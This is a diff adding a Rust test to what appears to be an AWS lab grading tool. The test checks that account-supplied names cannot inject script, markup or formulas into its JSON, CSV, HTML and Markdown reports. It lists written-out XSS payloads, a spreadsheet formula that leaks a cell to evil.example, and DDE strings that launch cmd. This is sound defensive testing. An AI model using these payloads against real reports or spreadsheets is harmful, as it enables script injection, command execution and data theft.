@@ -633,3 +633,114 @@ async fn malformed_policy_documents_from_the_account_are_judged() {
         assert!(v.earned() < 100, "{what}");
     }
 }
+
+/// Student names, a profile name and a flow log's Name tag written to run something: in the
+/// page, in a spreadsheet opened from grades.csv, or in a Markdown viewer.
+const HOSTILE_NAMES: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(2)>",
+    "\"><svg onload=alert(3)>",
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "[click](javascript:alert(4))",
+    "![x](http://evil.example/x.png)",
+    "a | b | c",
+    "`code` and *stars*",
+];
+
+#[tokio::test(flavor = "multi_thread")]
+async fn names_from_accounts_cannot_run_anything_in_the_reports() {
+    let tag = "<script>document.title='owned'</script>";
+    let lab = Lab::new().await;
+    lab.create_policy(POLICY, &flow_policy()).await;
+    lab.create_role(ROLE, &trust_policy()).await;
+    lab.attach(ROLE, POLICY).await;
+    lab.create_log_group(GROUP).await;
+    lab.create_flow_log(FlowLogSpec {
+        name: Some(tag),
+        ..Default::default()
+    })
+    .await;
+    let dir = TempDir::new();
+    let roster = dir.0.join("roster.csv");
+    let mut w = csv::Writer::from_path(&roster).expect("roster");
+    w.write_record(["student", "account_id", "profile"])
+        .expect("header");
+    for name in HOSTILE_NAMES {
+        w.write_record([*name, lab.account.id.as_str(), ""])
+            .expect("row");
+    }
+    w.write_record(["<b>broken</b>", "", "<i>no-such-profile</i>"])
+        .expect("row");
+    w.flush().expect("flush");
+    drop(w);
+    let out = dir.0.join("out");
+    let run = awslab()
+        .args(["grade", "--format", "json", "--out"])
+        .args([&out])
+        .args(["--roster"])
+        .args([&roster])
+        .run_within(Duration::from_secs(150));
+    assert_eq!(run.code(), 2, "one account is unreadable: {}", run.stderr());
+    let json_text = std::fs::read_to_string(out.join("grades.json")).expect("grades.json");
+    assert!(
+        json_text.contains("document.title"),
+        "the tag reached a message"
+    );
+    let json: serde_json::Value = serde_json::from_str(&json_text).expect("JSON");
+
+    // grades.csv: formula cells start with ', and every name reads back whole.
+    let csv_text = std::fs::read_to_string(out.join("grades.csv")).expect("grades.csv");
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let cells: Vec<String> = reader
+        .records()
+        .map(|r| r.expect("row")[0].to_string())
+        .collect();
+    assert_eq!(cells.len(), HOSTILE_NAMES.len() + 1);
+    for (cell, name) in cells.iter().zip(HOSTILE_NAMES) {
+        if name.starts_with(['=', '+', '-', '@']) {
+            assert_eq!(*cell, format!("'{name}"));
+        } else {
+            assert_eq!(cell, name);
+        }
+    }
+
+    // report.html: nothing but the page's own script and SVG; the names are text.
+    let html = std::fs::read_to_string(out.join("report.html")).expect("report.html");
+    crate::common::page::assert_matches_grades(&html, &json);
+    let names = crate::common::page::texts(&html, "#students td.name");
+    assert_eq!(names[..HOSTILE_NAMES.len()], *HOSTILE_NAMES);
+    let findings = crate::common::page::texts(&html, "tr.findings li").join("\n");
+    assert!(
+        findings.contains(tag),
+        "the tag is shown as text: {findings}"
+    );
+
+    // report.md, as a Markdown viewer renders it: no element from an account, names as text.
+    let md = std::fs::read_to_string(out.join("report.md")).expect("report.md");
+    let rendered = crate::common::page::markdown_as_html(&md);
+    let doc = scraper::Html::parse_fragment(&rendered);
+    for tag in ["script", "img", "svg", "a", "b", "i", "h1 + h1"] {
+        let sel = scraper::Selector::parse(tag).expect("selector");
+        assert_eq!(
+            doc.select(&sel).count(),
+            0,
+            "<{tag}> from an account in report.md:\n{md}\n{rendered}"
+        );
+    }
+    let text: String = doc.root_element().text().collect();
+    for name in [
+        "<script>alert(1)</script>",
+        "[click](javascript:alert(4))",
+        "a | b | c",
+    ] {
+        assert!(text.contains(name), "{name} not shown as text:\n{md}");
+    }
+    assert!(text.contains("<i>no-such-profile</i>"), "{md}");
+    let headings = doc
+        .select(&scraper::Selector::parse("h1").expect("h1"))
+        .count();
+    assert_eq!(headings, 1, "only the report's own title: {rendered}");
+}
